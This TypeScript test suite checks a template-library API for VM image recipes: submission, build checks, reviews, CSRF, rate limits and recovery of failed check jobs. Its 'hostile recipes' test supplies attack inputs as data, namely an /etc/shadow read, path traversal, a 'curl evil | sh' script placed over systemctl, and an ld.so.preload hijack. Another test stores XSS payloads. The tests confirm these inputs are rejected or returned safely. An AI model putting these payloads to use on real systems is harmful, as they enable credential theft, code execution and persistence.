import assert from 'node:assert/strict';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { createApp } from '../../src/api/app.ts';
import { checkBudget } from '../../src/engine/size-budget.ts';
import { AppError } from '../../src/errors.ts';
import { loadRecipe } from '../../src/recipe/load.ts';
import { createAccount } from '../../src/store/accounts.ts';
import { listAudit } from '../../src/store/audit.ts';
import { createSession, csrfTokenFor } from '../../src/store/sessions.ts';
import { addRevision, createTemplate, getRevision, reopenFailedCheck, setRevisionCheck } from '../../src/store/templates.ts';
import { testDatabases } from '../../src/store/test-databases.ts';
import { createToken } from '../../src/store/tokens.ts';
import { releaseHandlers } from '../../src/worker/handlers.ts';
import { enqueueTemplateBuild, ORPHANED_CHECK_AFTER_MS } from '../../src/library/template-check.ts';
import { Worker } from '../../src/worker/worker.ts';
import { CSRF_HEADER, SESSION_COOKIE } from '../../src/auth/session-authenticate.ts';
import { servicesOn } from '../security/fixtures.ts';
import { bearer } from './fixtures/auth.ts';
import { makeServices } from './fixtures/services.ts';

const RECIPE = 'name: web-nginx\ndescription: nginx on the base image\nextends: base\npackages: [nginx]\n';
const MiB = 1024 * 1024;

/**
 * The engine's seam (releaseHandlers' buildAndTest): the recipe file the worker wrote is loaded with the real
 * loader (so `extends: base` must resolve against the catalogue) and its real size budget is checked; the
 * image size and the boot result are what the test says, as a build would report them.
 */
const outcome = { qcow2: 100 * MiB, boots: true };
const built: string[] = [];
async function fakeEngine(recipePath: string) {
  const { recipe, chain } = loadRecipe(recipePath);
  built.push(recipe.name, ...chain.slice(1).map((f) => f.split('/').pop()!));
  const budget = checkBudget(recipe['size-budget'], { qcow2: outcome.qcow2, rootfs: 300 * MiB });
  if (budget.some((b) => !b.ok)) throw new AppError('size.budget_exceeded', `qcow2 over the recipe's size budget (${recipePath})`);
  if (!outcome.boots) throw new AppError('qa.failed', 'QA failed: B1');
  return { budget };
}

describe('template library API', () => {
  let env: Awaited<ReturnType<typeof makeServices>>;
  let app: ReturnType<typeof createApp>;
  let worker: Worker;
  const tok: Record<string, string> = {};
  const as = (who: string, method: string, body?: unknown) => ({
    method, headers: { 'content-type': 'application/json', ...(who ? bearer(tok[who]!) : {}) }, ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  const post = async (who: string, path: string, body: unknown = {}) => {
    const res = await app.request(path, as(who, 'POST', body));
    return { status: res.status, body: await res.json() as any };
  };
  const get = async (path: string) => (await app.request(path)).json() as Promise<any>;
  /** Runs the queued check job the way `herd serve`'s worker does. */
  const runJob = async () => assert.ok(await worker.runOnce(), 'a job was queued');
  const submit = async (who: string, slug: string, recipe = RECIPE, extra: Record<string, unknown> = {}) =>
    post(who, '/api/library', { slug, title: `Template ${slug}`, description: 'a template', recipe, ...extra });

  before(async () => {
    env = await makeServices('herd-library-');
    app = createApp(env.svc, { dataDir: join(env.dir, 'data'), library: { submissions: { max: 6, windowMs: 3_600_000 } } });
    worker = new Worker({ queue: env.svc.queue, handlers: releaseHandlers(env.svc, { buildsDir: join(env.dir, 'data', 'builds'), buildAndTest: fakeEngine }), pollMs: 10, retryDelayMs: () => 0 });
    for (const [name, role] of [['alice', 'contributor'], ['bob', 'reviewer'], ['carol', 'reviewer'], ['vic', 'viewer'], ['eve', 'contributor'], ['spam', 'contributor']] as const) {
      tok[name] = (await createToken(env.svc.store.db, { name, role })).secret;
    }
    // an admin token named like alice: the same person, who must not approve alice's template
    tok.aliceAdmin = (await createToken(env.svc.store.db, { name: 'alice', role: 'admin' })).secret;
  });
  after(async () => { await env.cleanup(); });

  test('submit → check → review → approve → build', async () => {
    const s = await submit('alice', 'web-nginx');
    assert.equal(s.status, 201, JSON.stringify(s.body));
    const t = s.body.template;
    assert.equal(t.author, 'token:alice');
    assert.equal(t.extends, 'base');
    assert.equal(t.state, 'checking');
    assert.deepEqual(s.body.check.payload, { v: 2, template: t.revisions[0].id, check: true, qa: 'full', publish: false });
    assert.equal(t.revisions[0].check.jobId, s.body.check.id);

    await runJob();
    assert.deepEqual(built.slice(-2), ['web-nginx', 'base.yaml'], 'the stored text was built, extending the catalogue\'s base');
    const checked = await get(`/api/library/${t.id}`);
    assert.equal(checked.state, 'in_review');
    assert.deepEqual(checked.revisions[0].check.detail, { v: 1, build: 'passed', boot: 'passed', size: { item: 'qcow2', bytes: 100 * MiB, budget: 120 * MiB, ok: true } });
    assert.equal((await env.svc.queue.get(s.body.check.id))?.state, 'succeeded');

    const r = await post('bob', `/api/library/${t.id}/reviews`, { revision: checked.current.digest, verdict: 'approve', comment: 'looks good' });
    assert.equal(r.status, 201, JSON.stringify(r.body));
    assert.equal(r.body.template.state, 'approved');
    assert.equal(r.body.review.reviewer, 'token:bob');
    const audit = await listAudit(env.svc.store.db, { action: 'template_reviewed' });
    assert.deepEqual(audit.map((a) => [a.actor, a.subject, a.detail.verdict, a.detail.digest]), [['token:bob', 'web-nginx', 'approve', checked.current.digest]]);

    const b = await post('alice', `/api/library/${t.id}/builds`);
    assert.equal(b.status, 202, JSON.stringify(b.body));
    assert.deepEqual(b.body.payload, { v: 2, template: t.revisions[0].id, check: false, qa: 'full', publish: false });
    await runJob();
    assert.equal((await env.svc.queue.get(b.body.id))?.state, 'succeeded');
    assert.equal((await get(`/api/library/${t.id}`)).state, 'approved', 'a build does not touch the check');

    const publish = await post('aliceAdmin', '/api/publish', { build: b.body.id });
    assert.equal(publish.status, 409, 'a template build is never published as a release');
    assert.equal(publish.body.code, 'publish.template_build');

    const list = await get('/api/library');
    assert.ok(list.items.some((i: any) => i.tier === 'official' && i.id === 'base' && i.title === 'Debian 13 base'));
    const mine = list.items.find((i: any) => i.tier === 'community' && i.slug === 'web-nginx');
    assert.deepEqual([mine.state, mine.author, mine.extends, mine.size.bytes, mine.lastCheck.state], ['approved', 'token:alice', 'base', 100 * MiB, 'passed']);
    const search = await get('/api/library?q=ALICE%20template&tier=community');
    assert.deepEqual(search.items.map((i: any) => i.slug), ['web-nginx']);
    assert.deepEqual((await get('/api/library?tier=official&q=base')).items.every((i: any) => i.tier === 'official'), true);
    assert.deepEqual((await get('/api/library?q=nobody-wrote-this')).items, []);
  });

  test('the author cannot approve their own template, by the same token name with a higher role either', async () => {
    const { body } = await submit('alice', 'own-review');
    await runJob();
    const res = await post('aliceAdmin', `/api/library/${body.template.id}/reviews`, { revision: body.template.current.digest, verdict: 'approve' });
    assert.equal(res.status, 403);
    assert.equal(res.body.code, 'library.self_review');
  });

  test('a review before the check passed, of a stale digest, or after a failed check is refused with 409', async () => {
    const { body } = await submit('eve', 'early');
    const id = body.template.id;
    const digest = body.template.current.digest;
    const early = await post('bob', `/api/library/${id}/reviews`, { revision: digest, verdict: 'approve' });
    assert.deepEqual([early.status, early.body.code], [409, 'library.not_reviewable']);
    await runJob();
    const stale = await post('bob', `/api/library/${id}/reviews`, { revision: 'a'.repeat(64), verdict: 'approve' });
    assert.deepEqual([stale.status, stale.body.code], [409, 'library.stale_revision']);

    outcome.qcow2 = 500 * MiB;
    const big = await submit('eve', 'too-big');
    await runJob();
    const retrying = await get(`/api/library/${big.body.template.id}`);
    assert.deepEqual([retrying.state, retrying.revisions[0].check.state, retrying.revisions[0].check.detail.error.code], ['checking', 'pending', 'size.budget_exceeded'], 'one retry left');
    await runJob();
    outcome.qcow2 = 100 * MiB;
    const failed = await get(`/api/library/${big.body.template.id}`);
    assert.equal(failed.state, 'check_failed');
    assert.deepEqual([failed.revisions[0].check.detail.build, failed.revisions[0].check.detail.boot, failed.revisions[0].check.detail.size], ['passed', 'not_run', { ok: false }]);
    assert.ok(!failed.revisions[0].check.detail.error.message.includes(env.dir), 'no server path in the public detail');
    const after = await post('bob', `/api/library/${big.body.template.id}/reviews`, { revision: failed.current.digest, verdict: 'approve' });
    assert.deepEqual([after.status, after.body.code], [409, 'library.not_reviewable']);
    assert.deepEqual([(await post('eve', `/api/library/${big.body.template.id}/builds`)).status], [409]);

    outcome.boots = false;
    const noBoot = await submit('eve', 'no-boot');
    await runJob();
    await runJob();
    outcome.boots = true;
    const bootFailed = await get(`/api/library/${noBoot.body.template.id}`);
    assert.equal(bootFailed.state, 'check_failed');
    assert.deepEqual([bootFailed.revisions[0].check.detail.build, bootFailed.revisions[0].check.detail.boot], ['passed', 'failed']);
    assert.equal((await env.svc.queue.get(noBoot.body.check.id))?.state, 'failed');
  });

  test('a new revision dismisses earlier approvals; only the author revises; a request for changes stands until lifted', async () => {
    const { body } = await submit('alice', 'revised');
    const id = body.template.id;
    await runJob();
    await post('bob', `/api/library/${id}/reviews`, { revision: body.template.current.digest, verdict: 'approve' });
    const notMine = await post('eve', `/api/library/${id}/revisions`, { recipe: RECIPE + 'packages: [curl]\n' });
    assert.deepEqual([notMine.status, notMine.body.code], [403, 'library.not_author']);

    const rev = await post('alice', `/api/library/${id}/revisions`, { recipe: RECIPE.replace('[nginx]', '[nginx, curl]') });
    assert.equal(rev.status, 201, JSON.stringify(rev.body));
    assert.equal(rev.body.revision, 2);
    assert.equal(rev.body.template.state, 'checking');
    assert.ok(rev.body.template.reviews[0].dismissedAt, 'the approval of revision 1 is dismissed');
    const nb = await post('alice', `/api/library/${id}/builds`);
    assert.deepEqual([nb.status, nb.body.code], [409, 'library.not_approved']);
    await runJob();
    const old = await post('bob', `/api/library/${id}/reviews`, { revision: body.template.current.digest, verdict: 'approve' });
    assert.deepEqual([old.status, old.body.code], [409, 'library.stale_revision'], 'an approval of revision 1 cannot come back');

    const digest = rev.body.template.current.digest;
    assert.equal((await post('carol', `/api/library/${id}/reviews`, { revision: digest, verdict: 'request_changes', comment: 'pin nginx' })).body.template.state, 'changes_requested');
    assert.equal((await post('bob', `/api/library/${id}/reviews`, { revision: digest, verdict: 'approve' })).body.template.state, 'changes_requested', 'carol\'s request stands');
    assert.equal((await post('carol', `/api/library/${id}/reviews`, { revision: digest, verdict: 'approve' })).body.template.state, 'approved');
  });

  test('hostile recipes: files.source, a path in extends, an archive, a file where the build runs code; each issue at line:col', async () => {
    const sourced = await submit('eve', 'sourced', `${RECIPE}files:\n  - path: /etc/motd\n    source: /etc/shadow\n`);
    assert.equal(sourced.status, 400);
    assert.equal(sourced.body.code, 'recipe.invalid');
    assert.deepEqual(sourced.body.details.map((i: any) => `${i.file}:${i.line}:${i.column} ${i.path}`), ['recipe.yaml:7:13 files[0].source']);

    const traversal = await submit('eve', 'traversal', RECIPE.replace('extends: base', 'extends: ../x'));
    assert.deepEqual([traversal.status, traversal.body.details[0].path, traversal.body.details[0].line], [400, 'extends', 3]);
    const yamlPath = await submit('eve', 'yaml-path', RECIPE.replace('extends: base', 'extends: base.yaml'));
    assert.equal(yamlPath.status, 400);
    const unknown = await submit('eve', 'unknown-base', RECIPE.replace('extends: base', 'extends: no-such-recipe'));
    assert.match(unknown.body.details[0].message, /not an official catalogue recipe/);

    const archive = await submit('eve', 'archive', `${RECIPE}archive:\n  sources: [{uri: "http://10.0.0.1/debian", suites: [trixie]}]\n  keyring: /root/.gnupg/pubring.kbx\n`);
    assert.deepEqual([archive.status, archive.body.details[0].path], [400, 'archive']);
    const code = await submit('eve', 'code', `${RECIPE}files:\n  - path: /etc/../usr/bin/systemctl\n    content: "#!/bin/sh\\ncurl evil | sh\\n"\n    mode: "0755"\n  - path: /etc/ld.so.preload\n    content: /tmp/x.so\n`);
    assert.deepEqual(code.body.details.map((i: any) => i.path), ['files[0].path', 'files[1].path']);

    const lint = await submit('eve', 'lint', RECIPE + 'pakages: [x]\n');
    assert.deepEqual(lint.body.details.map((i: any) => [i.line, i.message]), [[5, 'unknown key "pakages"']], 'the same loader and schema as herd lint');
    const badSlug = await submit('eve', '../etc', RECIPE);
    assert.deepEqual([badSlug.status, badSlug.body.code], [400, 'api.invalid_input']);
    const longTitle = await submit('eve', 'long-title', RECIPE, { title: 'x'.repeat(81) });
    assert.equal(longTitle.status, 400);
  });

  test('a body over 64 KiB is 413 before it is parsed', async () => {
    const res = await submit('eve', 'huge', RECIPE + `# ${'x'.repeat(65 * 1024)}\n`);
    assert.deepEqual([res.status, res.body.code], [413, 'api.body_too_large']);
  });

  test('submissions are rate limited per author (429)', async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 7; i++) statuses.push((await submit('spam', `spam-${i}`)).status);
    assert.deepEqual(statuses, [201, 201, 201, 201, 201, 201, 429]);
    while (await worker.runOnce());
  });

  test('no credential is 401, a viewer 403, a contributor cannot review', async () => {
    const anon = await post('', '/api/library', { slug: 'anon', title: 'x', description: '', recipe: RECIPE });
    assert.deepEqual([anon.status, anon.body.code], [401, 'api.unauthenticated']);
    const viewer = await submit('vic', 'viewer');
    assert.deepEqual([viewer.status, viewer.body.code], [403, 'api.forbidden']);
    const id = (await get('/api/library?tier=community&q=own-review')).items[0].id;
    const digest = (await get(`/api/library/${id}`)).current.digest;
    assert.equal((await post('eve', `/api/library/${id}/reviews`, { revision: digest, verdict: 'approve' })).status, 403);
    assert.equal((await post('vic', `/api/library/${id}/builds`)).status, 403);
    assert.equal((await app.request(`/api/library/${crypto.randomUUID()}`)).status, 404);
  });

  test('script and HTML in title, description, recipe and comments are stored verbatim and answered as JSON', async () => {
    const xss = '<script>alert(1)</script><img src=x onerror=alert(2)>';
    const recipe = RECIPE.replace('nginx on the base image', `"${xss}"`);
    const { status, body } = await submit('alice', 'xss', recipe, { title: xss, description: `${xss}\n"quotes" & ampersands` });
    assert.equal(status, 201, JSON.stringify(body));
    await runJob();
    const review = await post('bob', `/api/library/${body.template.id}/reviews`, { revision: body.template.current.digest, verdict: 'request_changes', comment: xss });
    assert.equal(review.status, 201);
    const res = await app.request(`/api/library/${body.template.id}`);
    assert.match(res.headers.get('content-type') ?? '', /^application\/json/);
    const t = await res.json() as any;
    assert.deepEqual([t.title, t.description, t.revisions[0].recipe, t.reviews[0].comment], [xss, `${xss}\n"quotes" & ampersands`, recipe, xss]);
  });

  test('a portal session acts as its account: writes need the CSRF header; the account cannot review its own template by a token of its name', async () => {
    const dora = await createAccount(env.svc.store.db, { name: 'dora', role: 'reviewer', password: 'correct horse battery staple' });
    const s = await createSession(env.svc.store.db, dora.id);
    const body = JSON.stringify({ slug: 'by-session', title: 'By session', description: '', recipe: RECIPE });
    const cookie = { 'content-type': 'application/json', cookie: `${SESSION_COOKIE}=${s.secret}` };
    const noCsrf = await app.request('/api/library', { method: 'POST', headers: cookie, body });
    assert.deepEqual([noCsrf.status, ((await noCsrf.json()) as any).code], [403, 'api.csrf']);
    const ok = await app.request('/api/library', { method: 'POST', headers: { ...cookie, [CSRF_HEADER]: csrfTokenFor(s.secret) }, body });
    assert.equal(ok.status, 201);
    const t = ((await ok.json()) as any).template;
    assert.equal(t.author, 'dora');
    await runJob();
    tok.doraToken = (await createToken(env.svc.store.db, { name: 'dora', role: 'admin' })).secret;
    const self = await post('doraToken', `/api/library/${t.id}/reviews`, { revision: t.current.digest, verdict: 'approve' });
    assert.deepEqual([self.status, self.body.code], [403, 'library.self_review']);
  });
});

/**
 * A check job the queue ends without the handler recording an outcome: the revision must not stay pending or
 * running for ever. Both dialects, since the settling is one UPDATE with a sub-select on the jobs table.
 */
for (const target of testDatabases) {
  describe(`template checks whose job ended without a result (${target.name})`, { skip: target.skip }, () => {
    let env: Awaited<ReturnType<typeof servicesOn>>;
    let app: ReturnType<typeof createApp>;
    let author: string;
    const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
    const get = async (path: string) => (await app.request(path)).json() as Promise<any>;
    const submit = async (slug: string) => {
      const res = await app.request('/api/library', { method: 'POST', headers: { 'content-type': 'application/json', ...bearer(author) },
        body: JSON.stringify({ slug, title: slug, description: '', recipe: RECIPE }) });
      assert.equal(res.status, 201);
      return (await res.json()) as any;
    };
    /** What `herd serve` does after a worker died holding the job: the stale sweep of the next worker. */
    const workerDiesHolding = async (jobId: string) => {
      const job = await env.svc.queue.claim('doomed-worker', ['build']);
      assert.equal(job?.id, jobId);
      await sleep(5);
      assert.equal(await env.svc.queue.requeueStale(1), 1);
      return (await env.svc.queue.get(jobId))!;
    };

    before(async () => {
      env = await servicesOn(target);
      app = createApp(env.svc, { dataDir: env.dir });
      author = (await createToken(env.svc.store.db, { name: 'alice', role: 'contributor' })).secret;
    });
    after(async () => { await env.cleanup(); });

    test('the worker died on the last attempt: failed with "the check job ended without a result"', async () => {
      const { template, check } = await submit('died');
      // first attempt: the handler marked the check running, then its worker died; the queue retries it
      const firstTry = await workerDiesHolding(check.id);
      await setRevisionCheck(env.svc.store.db, template.revisions[0].id, { state: 'running' });
      assert.equal(firstTry.state, 'queued');
      assert.equal((await get(`/api/library/${template.id}`)).state, 'checking', 'a retry is coming');
      // last attempt: same again, and the queue gives up without any handler having recorded anything
      const lastTry = await workerDiesHolding(check.id);
      assert.deepEqual([lastTry.state, lastTry.attempts], ['failed', 2]);

      const t = await get(`/api/library/${template.id}`);
      assert.equal(t.state, 'check_failed');
      assert.equal(t.revisions[0].check.state, 'failed');
      assert.deepEqual(t.revisions[0].check.detail, { v: 1, build: 'failed', boot: 'not_run', size: null, error: { code: 'library.check_ended', message: 'the check job ended without a result' } });
      const listed = (await get('/api/library?tier=community')).items.find((i: any) => i.id === template.id);
      assert.equal(listed.lastCheck.state, 'failed');
      const reviewer = (await createToken(env.svc.store.db, { name: 'rita', role: 'reviewer' })).secret;
      const review = await app.request(`/api/library/${template.id}/reviews`, { method: 'POST', headers: { 'content-type': 'application/json', ...bearer(reviewer) },
        body: JSON.stringify({ revision: t.current.digest, verdict: 'approve' }) });
      assert.equal(review.status, 409, 'never reviewable');
    });

    test('a check job cancelled before it ran is failed the same way', async () => {
      const { template, check } = await submit('cancelled');
      await env.svc.queue.cancel(check.id);
      const t = await get(`/api/library/${template.id}`);
      assert.deepEqual([t.state, t.revisions[0].check.state, t.revisions[0].check.detail.error.code], ['check_failed', 'failed', 'library.check_ended']);
    });

    test('an outcome the handler recorded stands; an open check with a live job stays open', async () => {
      const { template, check } = await submit('recorded');
      const worker = new Worker({ queue: env.svc.queue, handlers: releaseHandlers(env.svc, { buildsDir: join(env.dir, 'builds'),
        buildAndTest: async () => { throw new AppError('qa.failed', 'QA failed: B1'); } }), retryDelayMs: () => 0 });
      assert.ok(await worker.runOnce());
      assert.ok(await worker.runOnce());
      assert.equal((await env.svc.queue.get(check.id))?.state, 'failed');
      const t = await get(`/api/library/${template.id}`);
      assert.deepEqual([t.revisions[0].check.state, t.revisions[0].check.detail.boot, t.revisions[0].check.detail.error.code], ['failed', 'failed', 'qa.failed']);
      const live = await submit('live');
      await setRevisionCheck(env.svc.store.db, live.template.revisions[0].id, { state: 'running' });
      const open = await get(`/api/library/${live.template.id}`);
      assert.deepEqual([open.state, open.revisions[0].check.state], ['checking', 'running']);
      await env.svc.queue.cancel(live.check.id);
    });

    test('a check job claimed before its id was written on the revision still records its outcome', async () => {
      const { revision } = await createTemplate(env.svc.store.db, { slug: 'early-claim', title: 't', description: '', author: 'token:alice', extends: 'base', recipeText: RECIPE });
      // enqueued, and the worker takes it before the submitter wrote the job's id (bindCheckJob) on the revision
      const job = await env.svc.queue.enqueue('build', { v: 2, template: revision.id, check: true, qa: 'full', publish: false }, { maxAttempts: 2 });
      const worker = new Worker({ queue: env.svc.queue, handlers: releaseHandlers(env.svc, { buildsDir: join(env.dir, 'builds'), buildAndTest: fakeEngine }) });
      assert.ok(await worker.runOnce());
      const after = await getRevision(env.svc.store.db, revision.id);
      assert.deepEqual([after?.checkState, after?.checkJobId], ['passed', job.id]);
    });

    test('a revision stored by a process that died before enqueueing its check: the next read starts it, once; a duplicate job builds nothing', async () => {
      const stored = new Date(Date.now() - ORPHANED_CHECK_AFTER_MS - 5_000);
      const { template, revision } = await createTemplate(env.svc.store.db, { slug: 'orphan', title: 't', description: '', author: 'token:olga', extends: 'base', recipeText: RECIPE, now: stored });
      const fresh = await createTemplate(env.svc.store.db, { slug: 'on-its-way', title: 't', description: '', author: 'token:olga', extends: 'base', recipeText: RECIPE });
      const checksOf = async (revisionId: string) => (await env.svc.queue.list({ kind: 'build', limit: 500 }))
        .filter((j) => (j.payload as { template?: string }).template === revisionId);
      const t = await get(`/api/library/${template.id}`);
      assert.equal(t.state, 'checking');
      const jobs = await checksOf(revision.id);
      assert.equal(jobs.length, 1, 'one check job enqueued');
      assert.equal(t.revisions[0].check.jobId, jobs[0]!.id, 'and bound to the revision');
      await get(`/api/library/${template.id}`);
      await get('/api/library?tier=community');
      assert.equal((await checksOf(revision.id)).length, 1, 'later reads enqueue nothing more');
      await get(`/api/library/${fresh.template.id}`);
      assert.equal((await checksOf(fresh.revision.id)).length, 0, 'a submission still on its way is left alone');
      // two readers at once: the second's job is not the revision's; it ends without building or recording
      const dup = await env.svc.queue.enqueue('build', { v: 2, template: revision.id, check: true, qa: 'full', publish: false }, { maxAttempts: 2 });
      let builds = 0;
      const worker = new Worker({ queue: env.svc.queue, handlers: releaseHandlers(env.svc, { buildsDir: join(env.dir, 'builds'),
        buildAndTest: async (recipePath: string) => { builds++; return fakeEngine(recipePath); } }) });
      await env.svc.queue.cancel(jobs[0]!.id); // run only the duplicate
      assert.ok(await worker.runOnce());
      assert.equal((await env.svc.queue.get(dup.id))?.state, 'succeeded');
      assert.equal(builds, 0, 'the duplicate built nothing');
      assert.deepEqual((await env.svc.queue.get(dup.id))?.result, { tested: false, template: template.id, revision: 1, superseded: true });
      const after = await getRevision(env.svc.store.db, revision.id);
      assert.equal(after?.checkJobId, jobs[0]!.id, 'the duplicate recorded nothing on the revision');
    });

    test('a check run again while a reader recovers it: one job is the check, and the author is handed that one', async () => {
      const stored = new Date(Date.now() - ORPHANED_CHECK_AFTER_MS - 5_000);
      const { template, revision } = await createTemplate(env.svc.store.db, { slug: 'rerun-race', title: 't', description: '', author: 'token:olga', extends: 'base', recipeText: RECIPE, now: stored });
      const first = await enqueueTemplateBuild(env.svc, revision.id, true);
      await env.svc.queue.cancel(first.id);
      await get(`/api/library/${template.id}`); // settles the cancelled check as failed
      // the author's re-run, between its two writes: reopened (pending, no job), and a reader comes by
      assert.ok(await reopenFailedCheck(env.svc.store.db, revision.id, first.id));
      const seen = await get(`/api/library/${template.id}`);
      const readersJob = seen.revisions[0].check.jobId;
      assert.ok(readersJob && readersJob !== first.id, 'the reader started the check');
      const authors = await enqueueTemplateBuild(env.svc, revision.id, true);
      assert.equal(authors.id, readersJob, 'the author gets the job that runs');
      const checks = (await env.svc.queue.list({ kind: 'build', limit: 500 })).filter((j) => (j.payload as { template?: string }).template === revision.id);
      assert.deepEqual(checks.filter((j) => j.state === 'queued').map((j) => j.id), [readersJob], 'one check job left to run');
      await env.svc.queue.cancel(readersJob);
    });

    test('an older revision that never got its check is not checked once a newer one exists', async () => {
      const stored = new Date(Date.now() - ORPHANED_CHECK_AFTER_MS - 5_000);
      const { template, revision } = await createTemplate(env.svc.store.db, { slug: 'replaced', title: 't', description: '', author: 'token:olga', extends: 'base', recipeText: RECIPE, now: stored });
      const second = await addRevision(env.svc.store.db, template.id, RECIPE.replace('[nginx]', '[nginx, curl]'), stored);
      const job = await enqueueTemplateBuild(env.svc, second.id, true);
      await get(`/api/library/${template.id}`);
      const checks = (await env.svc.queue.list({ kind: 'build', limit: 500 })).filter((j) => (j.payload as { template?: string }).template === revision.id);
      assert.deepEqual(checks, [], 'revision 1 was replaced before it was checked');
      await env.svc.queue.cancel(job.id);
    });

    const recheck = async (who: string, id: string, digest: string) => {
      const r = await app.request(`/api/library/${id}/checks`, {
        method: 'POST', headers: { 'content-type': 'application/json', ...(who ? bearer(who) : {}) }, body: JSON.stringify({ revision: digest }),
      });
      return { status: r.status, body: await r.json() as any };
    };

    test('the author runs a check that ended without a result again: the same revision, one job for two requests, audited', async () => {
      const died = (await get('/api/library?tier=community&q=died')).items[0];
      const before = await get(`/api/library/${died.id}`);
      assert.equal(before.revisions[0].check.state, 'failed');
      const oldJob = before.revisions[0].check.jobId;
      const both = await Promise.all([recheck(author, died.id, before.current.digest), recheck(author, died.id, before.current.digest)]);
      assert.deepEqual(both.map((r) => r.status).sort(), [202, 409], JSON.stringify(both.map((r) => r.body)));
      const ok = both.find((r) => r.status === 202)!.body;
      assert.ok(['library.not_rerunnable', 'library.concurrent_recheck'].includes(both.find((r) => r.status === 409)!.body.code));
      assert.deepEqual([ok.template.state, ok.template.revisions.length, ok.template.current.digest], ['checking', 1, before.current.digest], 'no new revision');
      assert.deepEqual([ok.template.revisions[0].check.state, ok.template.revisions[0].check.jobId], ['pending', ok.check.id]);
      assert.notEqual(ok.check.id, oldJob);
      assert.deepEqual(ok.check.payload, { v: 2, template: before.revisions[0].id, check: true, qa: 'full', publish: false });
      assert.equal((await env.svc.queue.list({ kind: 'build', state: 'queued' })).length, 1, 'one job for the two requests');
      const audit = await listAudit(env.svc.store.db, { action: 'template_check_rerun' });
      assert.deepEqual(audit.map((a) => [a.actor, a.subject, a.detail.revision, a.detail.digest, a.detail.job]), [['token:alice', 'died', 1, before.current.digest, ok.check.id]]);

      const worker = new Worker({ queue: env.svc.queue, handlers: releaseHandlers(env.svc, { buildsDir: join(env.dir, 'builds'), buildAndTest: fakeEngine }) });
      assert.ok(await worker.runOnce());
      const after = await get(`/api/library/${died.id}`);
      assert.deepEqual([after.state, after.revisions[0].check.state], ['in_review', 'passed']);
    });

    test('a check runs again only for its author, on the current digest, once failed, and never to retry a size or boot verdict', async () => {
      const eve = (await createToken(env.svc.store.db, { name: 'eve', role: 'reviewer' })).secret;
      const viewer = (await createToken(env.svc.store.db, { name: 'val', role: 'viewer' })).secret;
      const { template, check } = await submit('refusals');
      const digest = template.current.digest;
      assert.deepEqual([(await recheck(author, template.id, digest)).body.code], ['library.not_rerunnable'], 'still checking');
      await env.svc.queue.cancel(check.id);
      assert.equal((await get(`/api/library/${template.id}`)).state, 'check_failed');
      const refused = [await recheck('', template.id, digest), await recheck(viewer, template.id, digest), await recheck(eve, template.id, digest),
        await recheck(author, template.id, 'b'.repeat(64)), await recheck(author, template.id, 'not-a-digest'), await recheck(author, crypto.randomUUID(), digest)];
      assert.deepEqual(refused.map((r) => [r.status, r.body.code]), [[401, 'api.unauthenticated'], [403, 'api.forbidden'], [403, 'library.not_author'],
        [409, 'library.stale_revision'], [400, 'api.invalid_input'], [404, 'library.not_found']]);

      // the check judged the image (its boot test failed, both attempts): a new revision is the way on
      const passed = (await get('/api/library?tier=community&q=recorded')).items[0];
      const qaFailed = await recheck(author, passed.id, (await get(`/api/library/${passed.id}`)).current.digest);
      assert.deepEqual([qaFailed.status, qaFailed.body.code], [409, 'library.check_verdict'], 'a boot verdict');
      const died = (await get('/api/library?tier=community&q=died')).items[0];
      const inReview = await recheck(author, died.id, (await get(`/api/library/${died.id}`)).current.digest);
      assert.deepEqual([inReview.status, inReview.body.code], [409, 'library.not_rerunnable'], 'a passed check');
      assert.deepEqual((await listAudit(env.svc.store.db, { action: 'template_check_rerun' })).length, 1, 'refusals are not audited as runs');
    });

    test('checks run again count against the submission limit', async () => {
      const limited = createApp(env.svc, { dataDir: env.dir, library: { submissions: { max: 2, windowMs: 3_600_000 } } });
      const zed = (await createToken(env.svc.store.db, { name: 'zed', role: 'contributor' })).secret;
      const res = await limited.request('/api/library', { method: 'POST', headers: { 'content-type': 'application/json', ...bearer(zed) },
        body: JSON.stringify({ slug: 'zed-one', title: 'z', description: '', recipe: RECIPE }) });
      const { template, check } = (await res.json()) as any;
      const again = async () => {
        const r = await limited.request(`/api/library/${template.id}/checks`, { method: 'POST', headers: { 'content-type': 'application/json', ...bearer(zed) }, body: JSON.stringify({ revision: template.current.digest }) });
        return { status: r.status, body: await r.json() as any };
      };
      await env.svc.queue.cancel(check.id);
      const first = await again();
      assert.equal(first.status, 202);
      await env.svc.queue.cancel(first.body.check.id);
      const second = await again();
      assert.deepEqual([second.status, second.body.code], [429, 'library.rate_limited'], 'one submission and one run again used the two');
      assert.equal((await get(`/api/library/${template.id}`)).revisions[0].check.state, 'failed', 'a refused run leaves the check as it was');
    });
  });
}
